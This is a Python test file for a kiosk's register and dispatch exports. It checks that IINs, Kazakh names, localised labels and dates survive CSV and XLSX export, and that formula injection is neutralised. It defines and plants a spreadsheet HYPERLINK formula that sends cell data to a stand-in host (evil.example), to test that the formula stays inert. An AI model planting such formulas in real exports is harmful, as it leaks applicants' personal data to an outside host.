"""Exports as a manager opens them: the daily register's CSV and XLSX keep IINs as 12 digits of
text and Kazakh letters intact, speak the reader's language (never `result_ready`), carry real
dates, and cannot attack their reader (a `=HYPERLINK(…)` surname or document name stays inert).
The CSV is opened with LibreOffice Calc itself where it is installed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kiosk.catalogue import default_catalogue_path, parse_catalogue
from kiosk.catalogue_admin import store_catalogue
from kiosk.cli import main
from kiosk.dispatch import dispatch_day
from kiosk.intake import accept_package, request_from_dict
from kiosk.registers import HEADINGS, export_register
from kiosk.returns import mark_returned
from kiosk.sheets import Sheet, csv_bytes, neutralise, xlsx_bytes
from kiosk.staff import Employee

DAY = dt.date(2026, 11, 20)
NOW = dt.datetime(2026, 11, 20, 10, 15)
IIN = "001004657493"           # leading zeros: a spreadsheet would make it 1004657493
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")'
S1_DOCS = ["application", "identity_document", "diploma", "professional_development", "employment"]
MANAGER = Employee("manager", "Басшы Б.", "manager")


def _request(ctx, surname="Әбілқайыров", iin=IIN, docs=S1_DOCS):
    s1 = ctx.catalogue.service("teacher_attestation")
    cond = s1.conditions[0]
    return request_from_dict(ctx.catalogue, {
        "service": "teacher_attestation",
        "applicant": {"surname": surname, "name": "Ғалымжан", "patronymic": "Өтегенұлы",
                      "iin": iin, "phone": "+7 701 234 56 78",
                      "address": "Алматы қ., Жандосов к., 98"},
        "answers": {cond.id: cond.exempt_when}, "documents": docs, "consent": True})


def _accept(ctx, minute=0, **kw):
    return accept_package(ctx, _request(ctx, **kw), employee="clerk",
                          now=NOW + dt.timedelta(minutes=minute))


def _set_surname(ctx, number: str, surname: str) -> None:
    """A name the form would refuse, as an older version or an import may have stored it."""
    with ctx.store.write():
        ctx.store.execute("UPDATE packages SET surname = ? WHERE number = ?", (surname, number))


def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads the Kazakh letters"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


# -- the one function every export uses ------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+7701", "-2", "@SUM(A1)", "\tx", "\rx", "＝1+1"])
def test_formula_starts_are_neutralised(text):
    assert neutralise(text) == "'" + text
    data = csv_bytes(Sheet("t", ["h"], [[text]])).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data, newline=""), delimiter=";"))[1] == ["'" + text]
    ws = load_workbook(io.BytesIO(xlsx_bytes([Sheet("t", ["h"], [[text]])]))).active
    # (XML reads a carriage return back as a line feed)
    assert ws["A2"].data_type == "s" and ws["A2"].value == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize("text", ["Әбілқайыров", "A-1", "", "2 + 2", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def test_xlsx_never_writes_a_formula_and_keeps_digits_and_dates():
    sheet = Sheet("t", ["a", "b", "c", "d"],
                  [[EVIL, IIN, dt.date(2026, 12, 1), dt.datetime(2026, 11, 20, 10, 15)]])
    wb = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    a, b, c, d = wb.active[2]
    assert a.data_type == "s" and a.value == "'" + EVIL
    assert b.data_type == "s" and b.value == IIN and b.number_format == "@"
    assert c.is_date and c.value == dt.datetime(2026, 12, 1) and c.number_format == "DD.MM.YYYY"
    assert d.is_date and d.value == dt.datetime(2026, 11, 20, 10, 15)


# -- the daily register -----------------------------------------------------------------------

def test_register_csv_keeps_iin_kazakh_letters_and_is_inert(ctx, tmp_path):
    ok = _accept(ctx)
    evil = _accept(ctx, 5, iin="900515300018")
    _set_surname(ctx, evil.number, EVIL)
    csv_path = export_register(ctx, DAY, tmp_path, ("csv",), by=MANAGER, full_iins=True, lang="kk")[0]
    rows = _read_csv(csv_path)
    assert rows[0] == list(HEADINGS["kk"])
    by_number = {r[1]: r for r in rows[1:]}
    line = by_number[ok.number]
    assert line[5] == f'="{IIN}"'               # Excel and Calc show 001004657493, as text
    assert line[4] == "Әбілқайыров Ғалымжан Өтегенұлы"
    assert by_number[evil.number][4] == "'" + EVIL + " Ғалымжан Өтегенұлы"
    assert all(not c.startswith(("=", "+", "-", "@")) or c == f'="{IIN}"' or c.startswith('="')
               for r in rows for c in r)


def test_register_xlsx_has_text_iins_real_dates_and_no_formula(ctx, tmp_path):
    from kiosk.demo import fill_demo_day
    ok = _accept(ctx)
    evil = _accept(ctx, 5, iin="900515300018")
    _set_surname(ctx, evil.number, EVIL)
    fill_demo_day(ctx, DAY, 12, seed=3)  # services with result terms
    xlsx = export_register(ctx, DAY, tmp_path, ("xlsx",), by=MANAGER, full_iins=True, lang="ru")[0]
    ws = load_workbook(xlsx).active
    assert [c.value for c in ws[1]] == list(HEADINGS["ru"])
    body = {row[1].value: row for row in ws.iter_rows(min_row=2)}
    line = body[ok.number]
    assert line[5].value == IIN and line[5].data_type == "s"
    assert line[2].is_date and line[2].value == NOW
    dues = [row[8] for row in ws.iter_rows(min_row=2) if row[8].value is not None]
    assert dues and all(c.is_date and c.number_format == "DD.MM.YYYY" for c in dues)
    assert line[6].value == "принят" and line[10].value == "принят"
    bad = body[evil.number]
    assert bad[4].data_type == "s" and bad[4].value.startswith("'=HYPERLINK(")
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("lang,refused,ready", [("kk", "бас тартылды", "нәтиже дайын"),
                                                ("ru", "отказ", "результат готов"),
                                                ("en", "refused", "result ready")])
def test_register_speaks_the_readers_language(ctx, tmp_path, lang, refused, ready):
    back = _accept(ctx)
    dispatch_day(ctx, DAY, tmp_path / "d", "dispatcher", now=NOW + dt.timedelta(minutes=30))
    mark_returned(ctx, back.number, "clerk", now=NOW + dt.timedelta(hours=1))
    no = _accept(ctx, 10, docs=S1_DOCS[:2])
    assert no.outcome == "refused"
    rows = _read_csv(export_register(ctx, DAY, tmp_path, ("csv",), lang=lang)[0])
    assert rows[0] == list(HEADINGS[lang])
    cells = {c for r in rows for c in r}
    assert not [c for c in cells if "_" in c], "no stored code such as result_ready"
    by_number = {r[1]: r for r in rows[1:]}
    assert by_number[back.number][10] == ready
    assert by_number[no.number][6] == refused and by_number[no.number][7]


def test_register_command_speaks_lang(ctx, data_dir, tmp_path, login_as):
    _accept(ctx)
    assert main(["register", "--date", DAY.isoformat(), "--out", str(tmp_path / "r"),
                 "--format", "csv", "--lang", "ru", "--data-dir", str(data_dir),
                 *login_as("manager")]) == 0
    rows = _read_csv(tmp_path / "r" / f"register-ALM01-{DAY}.csv")
    assert rows[0] == list(HEADINGS["ru"])


def test_document_name_from_the_catalogue_is_neutralised(ctx, tmp_path):
    data = json.loads(default_catalogue_path().read_text("utf-8"))
    data["version"] = "2026.9"
    for s in data["services"]:
        if s["id"] == "teacher_attestation":
            for d in s["documents"]:
                if d["id"] == "diploma":
                    d["name"] = {"kk": EVIL, "ru": EVIL, "en": EVIL}
    store_catalogue(ctx, MANAGER, parse_catalogue(json.dumps(data, ensure_ascii=False), "x"),
                    activate=True, now=NOW)
    refused = _accept(ctx, docs=["application", "identity_document"])
    assert refused.outcome == "refused"
    csv_path, xlsx = export_register(ctx, DAY, tmp_path, ("csv", "xlsx"), by=MANAGER, full_iins=True, lang="ru")
    line = {r[1]: r for r in _read_csv(csv_path)}[refused.number]
    assert line[7].startswith("'=HYPERLINK(")
    ws = load_workbook(xlsx).active
    cell = [row for row in ws.iter_rows(min_row=2) if row[1].value == refused.number][0][7]
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK(")


def test_dispatch_csv_is_inert_and_opens_in_a_spreadsheet(ctx, tmp_path):
    pkg = _accept(ctx)
    _set_surname(ctx, pkg.number, EVIL)
    result = dispatch_day(ctx, DAY, tmp_path / "d", "dispatcher", now=NOW + dt.timedelta(hours=2))
    rows = _read_csv(tmp_path / "d" / result.batches[0].csv)
    line = rows[1]
    applicant = line[rows[0].index("applicant")]
    assert applicant.startswith("'=HYPERLINK(")
    assert main(["verify", str(tmp_path / "d")]) == 0


# -- LibreOffice Calc itself ------------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def _calc_open(path: Path, tmp: Path) -> list[list[object]]:
    """Open the CSV as Calc's Text Import does for it (';' separated, UTF-8; Calc's defaults
    otherwise, formulas evaluated), save as XLSX, read the values Calc computed."""
    out = tmp / "calc"
    profile = tmp / "lo-profile"
    env = dict(os.environ, HOME=str(tmp))
    subprocess.run([SOFFICE, "--headless", "--norestore",
                    f"-env:UserInstallation={profile.as_uri()}",
                    "--infilter=CSV:59,34,76,1", "--convert-to", "xlsx", "--outdir", str(out),
                    str(path)], check=True, capture_output=True, timeout=180, env=env)
    wb = load_workbook(out / (path.stem + ".xlsx"), data_only=True)
    return [[c.value for c in row] for row in wb.active.iter_rows()]


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_calc_keeps_iin_as_12_digit_text_and_kazakh_letters(ctx, tmp_path):
    ok = _accept(ctx)
    evil = _accept(ctx, 5, iin="900515300018")
    _set_surname(ctx, evil.number, EVIL)
    csv_path = export_register(ctx, DAY, tmp_path / "out", ("csv",), by=MANAGER, full_iins=True, lang="kk")[0]
    rows = _calc_open(csv_path, tmp_path)
    assert rows[0][:6] == list(HEADINGS["kk"][:6])
    body = {r[1]: r for r in rows[1:]}
    assert body[ok.number][5] == IIN                  # text, leading zeros kept
    assert body[ok.number][4] == "Әбілқайыров Ғалымжан Өтегенұлы"
    assert body[ok.number][6] == "қабылданды"
    assert str(body[evil.number][4]).startswith("'=HYPERLINK(")   # shown as text, not a link


# -- event names ------------------------------------------------------------------------------

def _emitted_kinds() -> set[str]:
    """Every event kind the code writes: the constant (or both branches of a conditional)
    given as the kind to append_event / audit.record."""
    import ast
    root = Path(__file__).resolve().parents[1]
    kinds: set[str] = set()

    def consts(node) -> list[str]:
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            return [node.value]
        if isinstance(node, ast.IfExp):
            return consts(node.body) + consts(node.orelse)
        return []
    for path in list((root / "kiosk").rglob("*.py")) + list((root / "db").rglob("*.py")):
        tree = ast.parse(path.read_text("utf-8"))
        batched = False
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = getattr(node.func, "attr", None) or getattr(node.func, "id", None)
            if name == "append_event" and len(node.args) >= 2:
                kinds.update(consts(node.args[1]))
            batched |= name == "append_events" and path.name != "events.py"
        if batched:  # (kind, at, employee, package_id, data) tuples built for append_events
            for sub in ast.walk(tree):
                if isinstance(sub, ast.Tuple) and len(sub.elts) == 5:
                    kinds.update(consts(sub.elts[0]))
    return kinds


def test_every_event_the_code_writes_has_a_name_in_three_languages():
    from kiosk.labels import EVENT_NAMES
    kinds = _emitted_kinds()
    assert {"result_ready", "batch_created", "signed_in"} <= kinds
    kinds |= {"accepted", "refused"}  # intake writes the outcome as the kind
    missing = sorted(k for k in kinds if k not in EVENT_NAMES)
    assert not missing, f"add these to kiosk.labels.EVENT_NAMES: {missing}"
    for kind in kinds:
        assert all(EVENT_NAMES[kind].get(lang) for lang in ("kk", "ru", "en")), kind
